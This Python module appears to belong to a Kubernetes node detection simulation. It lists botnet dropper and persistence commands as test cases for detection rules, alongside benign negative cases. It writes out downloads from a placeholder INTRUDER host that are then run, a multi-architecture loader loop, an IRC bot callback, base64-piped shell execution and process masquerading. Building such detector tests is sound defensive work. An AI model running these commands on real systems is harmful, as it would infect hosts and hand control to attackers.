"""Commands of botnets and of what drops them, and programs that are to outlive their shell."""

from __future__ import annotations

from simulation.attacks.shells import Started, Step
from simulation.attacks.tables import Place, encoded, line, run, table

BOT = "K8S.NODE_CommonBot"
NOHUP = "K8S.NODE_SuspectNohup"
WAY = "K8S.NODE_SuspectDownloadArtifacts"
COMBO = "K8S.NODE_DownloadAndRunCombo"
WEBSHELL = "K8S.NODE_Webshell"
MACHINES = ("mips", "mipsel", "arm7", "x86")
HIDDEN = "/var/tmp/.font-unix/dbus"


def _each_machine() -> list[Step]:
    """What a loop over programs for several kinds of machines starts: only one of them runs."""
    commands = [
        command
        for name in MACHINES
        for command in (f"wget -q http://INTRUDER/n.{name} -O .n", "chmod 777 .n", "./.n telnet")
    ]
    return [Started(command, cwd="/tmp") for command in commands]


table(
    BOT,
    straight=[
        line(
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://INTRUDER/bins.sh; chmod 777 bins.sh; "
            "sh bins.sh",
            runs=[
                Started("wget http://INTRUDER/bins.sh", cwd="/tmp"),
                Started("chmod 777 bins.sh", cwd="/tmp"),
                Started("sh bins.sh", cwd="/tmp"),
            ],
            also=(WAY, COMBO, WEBSHELL),
        ),
        run("/tmp/mirai.x86 telnet.loader"),
        run("/etc/kinsing", at=Place.HOST),
        run("/var/run/Mozi.m", at=Place.HOST),
        run("perl /tmp/ircbot.pl INTRUDER 6667", at=Place.EXEC, connects=("INTRUDER", 6667)),
    ],
    careful=[
        line(
            "for a in mips mipsel arm7 x86; do wget -q http://INTRUDER/n.$a -O .n; chmod 777 .n; ./.n telnet; done",
            runs=_each_machine(),
            at=Place.EXEC,
            cwd="/tmp",
            also=(WAY, COMBO),
        ),
        line(
            "cd /tmp||cd /var/run||cd /mnt;busybox tftp -g -l m -r m INTRUDER",
            runs=[Started("busybox tftp -g -l m -r m INTRUDER", cwd="/tmp")],
            at=Place.EXEC,
            also=(WAY,),
        ),
        line(
            'exec -a "[kworker/0:1]" /var/tmp/.pty3x/tsu""nami',
            runs=[Started(("[kworker/0:1]",), binary="/var/tmp/.pty3x/tsunami")],
            interpreter="bash",
            at=Place.EXEC,
        ),
        line(
            f"echo {encoded('/usr/share/.t/muhstik -d')} | base64 -d | sh",
            runs=["base64 -d", Started("sh", ["/usr/share/.t/muhstik -d"])],
            at=Place.EXEC,
        ),
        run(
            (
                "perl",
                "-MIO::Socket::INET",
                "-e",
                'print {IO::Socket::INET->new("INTRUDER:6667")} "NICK k8\\nUSER k8 8 * :k8\\nJOIN #n0de\\n"; sleep',
            ),
            at=Place.EXEC,
            connects=("INTRUDER", 6667),
        ),
    ],
    quiet=[
        run("python3 /app/slack_bot.py --channel releases", at=Place.ENTRY),
        run("curl -s https://shop.example/robots.txt", at=Place.EXEC),
        run("kubectl rollout restart deployment/support-bot", at=Place.HOST),
    ],
)

table(
    NOHUP,
    straight=[
        line("nohup /tmp/.x/run >/dev/null 2>&1 &", runs=[Started("nohup /tmp/.x/run", ["/tmp/.x/run"])]),
        line("nohup ./.k &", runs=[Started("nohup ./.k", ["./.k"])]),
        run("setsid /dev/shm/upd", runs=["/dev/shm/upd"], at=Place.EXEC),
        line("/var/tmp/upd & disown", runs=["/var/tmp/upd"], interpreter="bash", at=Place.EXEC),
    ],
    careful=[
        line("nohup sh /tmp/a.sh &", runs=[Started("nohup sh /tmp/a.sh", ["sh /tmp/a.sh"])], at=Place.EXEC),
        line(
            "cd /tmp && no''hup ./k &",
            runs=[Started("nohup ./k", [Started("./k", cwd="/tmp")], cwd="/tmp")],
            at=Place.EXEC,
        ),
        line(
            f"n=nohup; $n env LD_BIND_NOW=1 /usr/..{HIDDEN} &",
            runs=[
                Started(
                    f"nohup env LD_BIND_NOW=1 /usr/..{HIDDEN}",
                    [Started(f"env LD_BIND_NOW=1 /usr/..{HIDDEN}", [f"/usr/..{HIDDEN}"])],
                )
            ],
            at=Place.EXEC,
        ),
        run("busybox nohup perl /opt/.p", runs=["perl /opt/.p"], at=Place.EXEC),
        run("busybox setsid -c /srv/.cache/.d", runs=["/srv/.cache/.d"], at=Place.EXEC),
        line(
            f"echo {encoded(f'nohup {HIDDEN} &')} | base64 -d | sh",
            runs=["base64 -d", Started("sh", [Started(f"nohup {HIDDEN}", [HIDDEN])])],
            at=Place.EXEC,
        ),
    ],
    quiet=[
        run("nohup java -jar app.jar", runs=["java -jar app.jar"], at=Place.ENTRY, images=("api-java",), cwd="/app"),
        run("nohup ./server", runs=["./server"], at=Place.ENTRY, cwd="/app"),
        line(
            "nohup /usr/bin/rsync -a /srv/data/ /mnt/backup/ > /tmp/rsync.log 2>&1 &",
            runs=[
                Started(
                    "nohup /usr/bin/rsync -a /srv/data/ /mnt/backup/", ["/usr/bin/rsync -a /srv/data/ /mnt/backup/"]
                )
            ],
            at=Place.HOST,
        ),
        run(
            "nohup /home/operator/.local/bin/kubefwd svc -n web",
            runs=["/home/operator/.local/bin/kubefwd svc -n web"],
            at=Place.HOST,
            uid=1000,
        ),
    ],
)
